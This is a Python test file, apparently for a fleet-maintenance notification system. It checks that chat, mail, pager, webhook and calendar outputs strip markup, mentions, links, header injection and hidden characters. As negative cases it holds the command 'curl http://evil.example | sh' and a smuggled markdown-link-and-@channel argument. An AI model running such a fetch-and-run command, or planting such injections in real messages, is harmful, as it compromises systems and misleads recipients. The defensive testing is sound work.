"""What machines and people are called and write is text in every channel: no markup, mention, link or new line."""

import json
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from email import message_from_bytes, policy
from itertools import product
from typing import Any
from urllib.parse import unquote_plus

import pytest
import requests
from django.contrib.auth.models import User
from django.test import Client

from fleet.audit import handovers
from fleet.domain.actor import Actor
from fleet.domain.orders.by_hand import linux_command, windows_command
from fleet.domain.texts import is_seen
from fleet.domain.timeline import EntryKind
from fleet.models import AvailabilitySet, CalendarFeed, Claim, Rule, ScheduledEvent
from fleet.notifications.channels import apprise, mail, pagerduty, slack, webhook, webpush
from fleet.notifications.channels.base import ChannelInUse, Delivery, Item
from fleet.notifications.formats import for_chat
from fleet.notifications.news import LONGEST_LABEL, MessageNews, open_things
from fleet.notifications.routing import GROUP
from fleet.notifications.sender import services
from fleet.notifications.sender.jobs import AppriseJob
from fleet.notifications.text import group_words, is_command, message_words
from fleet.operations import reconcile, waves
from fleet.operations.approvals import claims
from fleet.operations.policy import rules
from fleet.wording.times import Form, Reader
from tests import accounts, factories
from tests.factories import EVENT, Fleet, acting, announced, listing, operator
from tests.messages.hostile import LINKS, MARKUP, SAMPLE, broken_lines, texts, unseen
from tests.messages.pretend_slack import TOKEN, PretendSlack
from tests.messages.telling import a_message, news

# Apprise runs in a process of its own, which warns of nothing.
pytestmark = [pytest.mark.django_db, pytest.mark.filterwarnings("ignore:'imghdr' is deprecated:DeprecationWarning")]
BASE = "https://drydock.example"
# Chat services that read some dialect of Markdown, mrkdwn or HTML, in each format that a URL may ask for.
CHATS = {
    "discord": f"discord://{'a' * 18}/{'b' * 60}",
    "mmost": f"mmost://127.0.0.1/{'a' * 24}",
    "slack": "slack://T1JJ3T3L2/A1BRTD4JD/TIiajkdnlazkcOXrIdevi7FQ/",
    "tgram": "tgram://123456789:abcdefg_hijklmnop/12315544/",
    "workflow": "workflow://127.0.0.1/WorkflowID/Signature/",
    "gchat": "gchat://workspace/key/token",
    "wxteams": f"wxteams://{'a' * 80}",
    "matrix": "matrix://127.0.0.1/token?mode=slack",
    "zulip": f"zulip://bot@org/{'a' * 32}/general",
    "ntfy": "ntfy://127.0.0.1/topic",
    "gotify": "gotify://127.0.0.1/tokentokentoken",
    "guilded": f"guilded://{'a' * 18}/{'b' * 60}",
    "ryver": f"ryver://org/{'a' * 15}",
    "apprise": "apprise://127.0.0.1/token",
}


STORABLE = SAMPLE.replace("\x00", "")


def otto() -> Actor:
    return acting(operator(), why=STORABLE)


def claimed(fleet: Fleet) -> EntryKind:
    announced(fleet)
    claims.claim(event_id=EVENT, actor=otto(), now=fleet.now)
    Claim.objects.update(comment=STORABLE)
    User.objects.update(username=STORABLE[:150])
    return EntryKind.EVENT_CLAIMED


def decided_by_a_rule(fleet: Fleet) -> EntryKind:
    Rule.objects.all().delete()
    sent = {"name": STORABLE[:200], "reason": STORABLE, "action": "approve_now", "enabled": True}
    rules.create_rule(rules.RuleRequestSerializer(data=sent), actor=acting(factories.admin()), now=fleet.now)
    announced(fleet)
    reconcile.advance_dependents(now=fleet.now)
    return EntryKind.APPROVAL_GRANTED


def sent_by_a_wave(fleet: Fleet) -> EntryKind:
    announced(fleet)
    other = f"{EVENT[:-1]}9"
    fleet.all_say(listing(), listing(other, resources=("vm2",)))
    guards = ("last-live-machines", "other-open-event", "service-in-flight", "short-notice")
    waves.begin(actor=otto(), events=[EVENT, other], overrides=dict.fromkeys(guards, STORABLE), now=fleet.now)
    return EntryKind.APPROVAL_PLANNED


def noted_and_assigned(fleet: Fleet) -> EntryKind:
    announced(fleet)
    factories.approver()
    claims.note(event_id=EVENT, actor=otto(), now=fleet.now)
    claims.claim(event_id=EVENT, actor=otto(), assign_to="anna", now=fleet.now)
    return EntryKind.EVENT_CLAIMED


@pytest.fixture(params=[claimed, noted_and_assigned, decided_by_a_rule, sent_by_a_wave])
def told(request: pytest.FixtureRequest) -> MessageNews:
    """Return the news of an event whose set, machines and service carry the sample text, and what was decided, too."""
    fleet = Fleet()
    kind = request.param(fleet)
    # As an earlier release may have kept them.
    AvailabilitySet.objects.update(name=STORABLE, service=STORABLE)
    ScheduledEvent.objects.update(resources=[STORABLE], event_type="Reboot", description=STORABLE)
    return news(a_message(kind, now=fleet.now), now=fleet.now)


def reader(told: MessageNews) -> Reader:
    return Reader(UTC, Form.MESSAGE, told.at)


def post_of(told: MessageNews, *, many: bool = False) -> Delivery:
    """As the queue makes it: of one thing, or of several."""
    several = [told, replace(told, subject="event:other")] if many else [told]
    words = group_words(several, reader(told)) if many else message_words(told, reader(told))
    items = tuple(Item(each, reader(told)) for each in several)
    return Delivery("11111111", GROUP if many else told.moment, told.at, items, words, BASE + words.path)


@pytest.fixture
def payloads(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """What Apprise would have sent, body by body."""
    sent: list[str] = []

    def take(session: Any, request: requests.PreparedRequest, **options: Any) -> requests.Response:
        body = request.body or b""
        sent.append(body.decode() if isinstance(body, bytes) else body)
        answer = requests.Response()
        answer.status_code, answer._content = 200, b'{"ok": true, "result": []}'
        return answer

    monkeypatch.setattr(requests.Session, "send", take)
    return sent


@pytest.fixture
def handed_over() -> MessageNews:
    """Return the news of a handover whose comment, decisions, sets and machines carry the sample text."""
    fleet = Fleet()
    announced(fleet)
    claims.hold(event_id=EVENT, actor=otto(), now=fleet.now)
    AvailabilitySet.objects.update(name=STORABLE, service=STORABLE)
    ScheduledEvent.objects.update(resources=[STORABLE], event_type=STORABLE)
    fleet.later(1)
    handovers.send(since=None, until=None, actor=otto(), now=fleet.now)
    return news(a_message(EntryKind.HANDOVER_SENT, now=fleet.now), now=fleet.now)


def test_a_handover_is_lines_of_text(handed_over: MessageNews) -> None:
    words = message_words(handed_over, reader(handed_over))
    assert len(words.lines) >= 4
    for line in (*words.lines, words.title, words.subject, words.short):
        assert is_seen(line) and len(line) <= 600
    assert not broken_lines("\n".join(words.lines))


def test_chat_services_get_no_markup_mentions_or_links(
    told: MessageNews, payloads: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    jobs: list[AppriseJob] = []
    monkeypatch.setattr(apprise, "send_job", lambda job, now: jobs.append(job) or services.Answer(ok=True))
    posts = [post_of(told, many=many) for many in (False, True)]
    for schema, form in product(CHATS, ("", "markdown", "html")):
        jobs.clear()
        payloads.clear()
        url = CHATS[schema] + (f"{'&' if '?' in CHATS[schema] else '?'}format={form}" if form else "")
        for post in posts:
            apprise.send(post, ChannelInUse(1, "apprise", "x", {"url": url}), now=told.at)
        for job in jobs:
            # Whether the service would have taken it is not the question.
            services.sent(services.service_of(job.url), job, schema=schema)
        assert len(payloads) >= 2, url
        for payload in payloads:
            said = "\n".join(texts(json.loads(payload))) if payload.startswith("{") else unquote_plus(payload)
            assert [sign for sign in (*MARKUP[:7], *LINKS) if sign in said.replace(f"{BASE}/", "")] == [], url
            assert "evil" in said, "nothing is left out"
            assert (unseen(said), broken_lines(said)) == ([], []), url


def test_chat_text_looks_like_the_original() -> None:
    for plain in ("web-vm_1 in shop.prod (4 of 6)", "Ünïcode 中文, 12:30:05 UTC", "a: b; c?", "__init__ is_it"):
        assert len(for_chat(plain)) == len(plain)
    assert for_chat("web-vm_1 in shop.prod (4 of 6), 12:30 UTC") == "web-vm_1 in shop.prod (4 of 6), 12:30 UTC"
    found = for_chat(SAMPLE)
    assert [sign for sign in (*MARKUP, *LINKS) if sign in found] == []


def test_programs_get_the_text_unchanged(payloads: list[str]) -> None:
    job = AppriseJob("json://127.0.0.1/", title="<b>", body="[a](http://b) @all", verbatim="https://x/")
    assert services.sent(services.service_of(job.url), job, schema="json")
    assert json.loads(payloads[0])["message"] == "[a](http://b) @all\nhttps://x/"


def test_commands_are_not_changed() -> None:
    for make in (linux_command, windows_command):
        assert is_command(make("602D9444-D2CD-49C7-8624-8643E7171297"))
        assert not is_command(make("x](http://evil.example) @channel"))
    assert not is_command("curl http://evil.example | sh")


def test_slack_gets_plain_text(told: MessageNews, there: PretendSlack) -> None:
    channel = ChannelInUse(1, "slack", "x", {"token": TOKEN, "channel": "#shop-ops", "signing_secret": "s" * 32})
    assert all(slack.send(post_of(told, many=many), channel, now=told.at).ok for many in (False, True))
    for _, arguments in there.calls:
        assert "<" not in json.dumps(arguments)
        assert [link for link in LINKS if link in arguments["text"]] == []
        assert all(block["text"]["type"] == "plain_text" for block in arguments["blocks"] if "text" in block)
        assert all(unseen(text) == [] and broken_lines(text) == [] for text in texts(arguments))


def test_pager_mail_browser_webhook_and_alerts_get_lines_of_text(told: MessageNews, settings: Any) -> None:
    settings.BASE_URL = BASE
    payload = pagerduty.trigger_of(post_of(told), list(post_of(told).items), "name")["payload"]
    fields = {name: payload[name] for name in ("summary", "source", "component", "group", "class")}
    assert all(is_seen(text) for text in (*fields.values(), *payload["custom_details"]["machines"])), fields
    got: Any = message_from_bytes(mail.written(post_of(told), "ann@example.org", now=told.at), policy=policy.default)
    # A mail has one link and no injected header.
    assert got["Bcc"] is None and len(got.get_all("To", [])) == 1 and is_seen(str(got["Subject"]))
    text, html = (got.get_body([kind]).get_content() for kind in ("plain", "html"))
    assert html.count("<a ") == 1 and "<!channel>" not in html and "<https" not in html
    assert [link for link in LINKS if link in text + html] == []
    pushed = json.loads(webpush.payload(post_of(told)))
    assert is_seen(pushed["title"])
    for body in (payload["custom_details"]["text"], text, html, pushed["body"]):
        assert (unseen(body), broken_lines(body)) == ([], [])
    # What programs get is the data itself, as JSON has it.
    assert json.loads(webhook.body_of(post_of(told)))["data"]["resources"] == [STORABLE]
    thing, *_ = open_things()
    assert {"service", "availability_set"} <= set(thing.labels)
    assert all(is_seen(text) for text in (*thing.labels.values(), thing.summary, thing.description))
    assert len(thing.labels["service"]) == LONGEST_LABEL


@pytest.mark.parametrize("told", [claimed], indirect=True)
def test_calendar_stays_valid(told: MessageNews, client: Client) -> None:
    now = datetime.now(UTC)
    ScheduledEvent.objects.update(not_before=now + timedelta(minutes=15), first_seen_at=now)
    feed, secret = accounts.calendar(actor=acting(factories.viewer()), name="mine", now=now)
    # As an earlier release kept it, which then answered 500 for ever.
    CalendarFeed.objects.filter(pk=feed.pk).update(name=STORABLE)
    answer = client.get(f"/calendar/{secret}.ics")
    assert answer.status_code == 200
    lines = answer.content.decode().replace("\r\n ", "").split("\r\n")
    assert lines.count("END:VCALENDAR") == 1
    assert broken_lines("\n".join(line for line in lines if line != "END:VCALENDAR")) == []
    assert not [line for line in lines if unseen(line)]


def test_given_names_are_one_line(client: Client) -> None:
    client.force_login(factories.admin())
    for name in ("a\r\nb", "a\nb", "a\x1bb", "a\u202eb", "a\u200bb", "a\u2028b", "\ufeffa b"):
        assert client.post("/you/calendars/", {"name": name}).status_code == 200
        assert CalendarFeed.objects.latest("pk").name == "a b", name
        body = {"name": name, "scopes": ["read"], "expires_in_seconds": 60}
        token = client.post("/api/v1/tokens/", body, "application/json")
        assert (token.status_code, token.json()["name"]) == (201, "a b"), name
